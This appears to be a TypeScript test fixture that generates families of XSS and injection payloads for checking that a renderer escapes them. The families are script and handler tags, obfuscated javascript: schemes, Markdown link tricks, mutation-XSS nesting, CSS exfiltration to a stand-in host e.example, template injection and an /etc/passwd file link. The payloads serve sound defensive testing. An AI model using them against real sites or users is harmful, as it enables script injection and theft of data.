import { ENCODED } from './encoded-payloads.ts'
import { pairs } from './pairs.ts'

/**
 * Texts that must come out as the text they are, in families built from tables, so that a gap can be seen. `x()`
 * stands for whatever should not run, e.example for whoever should not be asked. Each fits the shortest field.
 */

const capitals = (text: string) => text.toUpperCase()
const bothCases = (text: string) => text.replace(/.[a-z]?/g, ([a = '', b = '']) => a + b.toUpperCase())
const decimal = (letter: string) => `&#${letter.charCodeAt(0)};`
const hexadecimal = (letter: string) => `&#x${letter.charCodeAt(0).toString(16)};`

const ELEMENTS = [
  '<script>x()</script>',
  '<script>x()',
  '<script/src=//e.example>',
  '<SCRIPT\n>x()</SCRIPT\t>',
  '<scr<script>ipt>x()</scr</script>ipt>',
  '<script type=module>import"//e.example"</script>',
  '<script type="application/ld+json">{}</script>',
  '<iframe src=javascript:x()>',
  '<iframe srcdoc="<script>x()</script>">',
  '<frameset><frame src=javascript:x()>',
  '<object data=javascript:x()>',
  '<embed src=//e.example/e.svg>',
  '<applet code=E codebase=//e.example>',
  '<base href=//e.example/>',
  '<meta http-equiv=refresh content="0;url=//e.example">',
  '<meta http-equiv="Set-Cookie" content="a=b">',
  '<meta charset=utf-7>',
  '<link rel=stylesheet href=//e.example>',
  '<link rel=manifest href=//e.example>',
  '<form action=//e.example><input name=code>',
  '<button formaction=javascript:x()>Sign in',
  '<input type=image src=//e.example/e.png>',
  '<img src=//e.example/seen.gif>',
  '<video poster=//e.example/seen.gif>',
  '<a href=//e.example ping=//e.example>read more</a>',
  '<a id=content name=body>x</a>',
  '<plaintext>',
  '<dialog open>Sign in</dialog>',
  '<x-widget>',
  '<!doctype html>',
  '<?xml version="1.0"?>',
  '<%@ page %>',
]

/** What makes an element call its handler without anybody's help, or nearly. */
const OPENINGS = {
  'img src=x': 'onerror',
  'audio src=x': 'onerror',
  'video><source': 'onerror',
  'object data=x': 'onerror',
  'link rel=stylesheet href=x': 'onerror',
  svg: 'onload',
  body: 'onpageshow',
  iframe: 'onload',
  style: 'onload',
  'input autofocus': 'onfocus',
  'select autofocus': 'onfocus',
  'p contenteditable autofocus': 'onfocus',
  'details open': 'ontoggle',
  marquee: 'onstart',
  'p style=animation:a': 'onanimationstart',
  'svg><animate dur=1s': 'onbegin',
  'a href=#': 'onclick',
}
const HANDLED: ((opening: string, handler: string) => string)[] = [
  (opening, handler) => `<${opening} ${handler}=x()>`,
  (opening, handler) => `<${opening.replaceAll(' ', '/')}/${handler}=x()//`,
  (opening, handler) => `<${opening}\n${handler}\n=\n"x()"\n>`,
  (opening, handler) => `<${capitals(opening)} ${bothCases(handler)}='x()'>`,
  (opening, handler) => `<${opening} a=">" ${handler}=&#120;()>`,
  (opening, handler) => `< ${opening}\t${handler}=\`x()\` >`,
]

const CLOSINGS = [
  '">',
  "'>",
  '`>',
  '-->',
  '--!>',
  ']]>',
  '*/',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</select>',
  '</p></article></main>',
  '"/></head><body>',
]
const OPENED = ['<script>x()</script>', '<img src=x onerror=x()>', '<svg onload=x()']

const QUOTES = ['"', "'", '`', '', '&quot;', '\\"']
const ATTRIBUTES = [
  'onmouseover=x()',
  'autofocus onfocus=x()',
  'style=position:fixed',
  'srcdoc=<b>',
  'dir=x a',
]

const SCHEMES = { javascript: 'x()', vbscript: 'x()', data: 'text/html,<b>' }
/** Cyrillic a, dotless i, long s. */
const LOOKALIKES: Record<string, string> = { a: '\u0430', i: '\u0131', s: '\u017f' }
const SPELLINGS: ((scheme: string) => string)[] = [
  scheme => `${scheme}:`,
  scheme => `${capitals(scheme)}:`,
  scheme => `${bothCases(scheme)}:`,
  scheme => ` ${scheme} :`,
  scheme => `\t${scheme}\n:`,
  scheme => `${scheme.slice(0, 2)}\t${scheme.slice(2)}:`,
  scheme => `${scheme.slice(0, 2)}\n${scheme.slice(2)}:`,
  scheme => `${scheme.slice(0, 2)}&Tab;${scheme.slice(2)}:`,
  scheme => `${scheme.slice(0, 2)}&NewLine;${scheme.slice(2)}:`,
  scheme => `${scheme.slice(0, 2)}&#1;${scheme.slice(2)}:`,
  scheme => `${decimal(scheme)}${scheme.slice(1)}:`,
  scheme => `${hexadecimal(scheme)}${scheme.slice(1)}:`,
  scheme => `&#0000${scheme.charCodeAt(0)}${scheme.slice(1)}:`,
  scheme => `${scheme}&colon;`,
  scheme => `${scheme}&#58;`,
  scheme => `${scheme}%3A`,
  scheme => `%${scheme.charCodeAt(0).toString(16)}${scheme.slice(1)}:`,
  scheme => `${scheme}\\:`,
  scheme => `\u00a0${scheme}:`,
  scheme => `\u200b${scheme}:`,
  scheme => `${scheme.slice(0, 2)}\u00ad${scheme.slice(2)}:`,
  scheme => `${scheme.replace(/[ais]/, letter => LOOKALIKES[letter] ?? letter)}:`,
  scheme => `${String.fromCharCode(scheme.charCodeAt(0) + 0xfee0)}${scheme.slice(1)}\uff1a`,
]
const CARRIERS: ((address: string) => string)[] = [
  address => `[a](${address})`,
  address => `<${address}>`,
  address => `<a href="${address}">a</a>`,
]
const ADDRESSES = Object.entries(SCHEMES).flatMap(([scheme, rest]) =>
  SPELLINGS.map(spell => spell(scheme) + rest),
)

const MARKDOWN = [
  '[a](<javascript:x()>)',
  '[a](javascript:x() "t")',
  '[a](\n  javascript:x()\n)',
  '![a](javascript:x())',
  '![a](x"onerror="x())',
  '![a" onerror="x()](https://e.example)',
  '[![a](data:image/svg+xml,x)](vbscript:x())',
  '[a]\n\n[a]: javascript:x()',
  '[a]\n\n[a]: <javascript:x()> "t"',
  '[a][]\n\n[a]:\njavascript:x()',
  '[a](https://e.example "t\\" onclick=x() a=\\"")',
  '[a](https://e.example/"onclick="x())',
  '[a](https://e.example/<script>)',
  '[a](https://e.example/%22%3E%3Cscript%3E)',
  '[a](https://bank.example@e.example/)',
  '[a](https:\\\\e.example)',
  '[a](//e.example)',
  '[a](\\\\e.example)',
  '[a](/\\e.example)',
  '[a](mailto:a@b.example?body=<b>)',
  '[a](feed:javascript:x())',
  '[a](view-source:https://e.example)',
  '[a](blob:https://e.example/1)',
  '[a](file:///etc/passwd)',
  '<https://e.example/"onclick="x()>',
  '<mailto:a@b.example"onclick=x()>',
  '[[[[[a](javascript:x())](b)](c)](d)](e)',
  '[a](((((((javascript:x())))))))',
  '[<script>x()</script>](https://e.example)',
  '[`](https://e.example)<b>`',
  '**<b onclick=x()>**a**</b>**',
  '`<script>x()</script>`',
  '```html onclick=x()',
  '~~~"><script>x()</script>',
  '<div markdown=1 onclick=x()>',
  '| <b> |\n|---|\n| <i onclick=x()> |',
  '[^1]: <script>x()</script>',
  '\\<script>x()\\</script>',
  '<!--\n\n<script>x()</script>\n\n-->',
]

/** Where one parser's text is another's tag: foreign content, raw text, what is moved out of tables. */
const OUTER = [
  'svg',
  'math',
  'math><mtext',
  'svg><desc',
  'svg><foreignObject',
  'table',
  'select',
  'form><form',
]
const INNER = [
  '<style><!--</style><img src=x onerror=x()>',
  '<title><b title="</title><img src=x onerror=x()>">',
  '<xmp><p title="</xmp><svg onload=x()>">',
]
const RAW_TEXT = [
  'noscript',
  'template',
  'textarea',
  'title',
  'noembed',
  'noframes',
  'iframe',
  'listing',
  'style',
]

const STYLES = [
  '<style>*{background:url(//e.example)}</style>',
  '<style>@import"//e.example";</style>',
  '<style>input[value^=a]{background:url(//e.example/a)}</style>',
  '<p style="background:url(javascript:x())">',
  '<p style="width:expression(x())">',
  '<p style="-moz-binding:url(//e.example#x)">',
  '<p style=position:fixed;inset:0;z-index:9>',
  '<p style="\\62 ehavior:url(#x)">',
  '}*{display:none}',
  '<font color="red;x:expression(x())">',
  '<svg><style>{font-family:"</style><svg onload=x()>"}',
]

/** For text that stands inside a script: structured data, a call's argument, an event's frame. */
const IN_SCRIPTS = [
  '</script><!--<script>',
  '<!--<script>',
  '<\\/script><script>x()',
  '"});x();//',
  "'-x()-'",
  '\\"-x()//',
  '\\u003c/script\\u003e\\u003cscript\\u003ex()',
  'a\u2028x()',
  'a\u2029x()//',
  '{"@context":"x","@type":"Thing"}',
  '{"__proto__":{"x":1}}',
  '*/x()/*',
  'data: x\n\nevent: y',
]

const TEMPLATES = [
  '{{x()}}',
  '{{{x}}}',
  '{{constructor.constructor("x()")()}}',
  '{%x%}',
  `\${x()}`,
  '#{x()}',
  '*{x()}',
  '<%=x()%>',
  '<#assign x=1>',
  `[[\${x()}]]`,
  '@(x())',
  '{{=<% %>=}}',
  '<c:out value=x>',
  '<p v-html=x() x-init=x() ng-init=x()>',
  '<a data-bind="click:x()">',
  '%s%n%x',
  '$(x)`x`;x|x',
]

export const FAMILIES: Record<string, readonly string[]> = {
  elements: ELEMENTS,
  handlers: pairs(Object.entries(OPENINGS), HANDLED, ([opening, handler], write) => write(opening, handler)),
  'ways out of an element': pairs(CLOSINGS, OPENED, (closing, opened) => closing + opened),
  'ways out of an attribute': pairs(
    QUOTES,
    ATTRIBUTES,
    (quote, attribute) => `a${quote} ${attribute} b=${quote}`,
  ),
  addresses: pairs(CARRIERS, ADDRESSES, (carry, address) => carry(address)),
  Markdown: MARKDOWN,
  'mutations by nesting': pairs(OUTER, INNER, (outer, inner) => `<${outer}>${inner}`),
  'mutations of raw text': RAW_TEXT.map(name => `<${name}><p title="</${name}><img src=x onerror=x()>">`),
  styles: STYLES,
  scripts: IN_SCRIPTS,
  templates: TEMPLATES,
  encodings: ENCODED,
}

export const PAYLOADS: readonly string[] = Object.values(FAMILIES).flat()
